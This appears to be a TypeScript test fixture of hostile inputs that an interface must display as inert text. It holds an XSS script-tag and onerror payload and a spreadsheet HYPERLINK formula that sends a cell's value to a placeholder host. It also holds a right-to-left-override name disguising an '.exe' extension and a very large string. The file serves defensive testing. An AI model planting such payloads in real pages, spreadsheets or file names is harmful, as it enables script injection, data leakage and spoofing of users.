declare global {
  interface Window {
    ran?: boolean;
  }
}

/** What must be shown as text, run nowhere and break nothing. */
export const hostile = {
  script: '<script>window.ran=true</script><img src=x onerror="window.ran=true">',
  formula: '=HYPERLINK("http://example.invalid/?"&A1,"Ada")',
  turned: 'Quinn \u202egnp.exe\u202c\u2066\u200b\u200d\ufeff Zero',
  large: 'Large '.repeat(350_000),
};
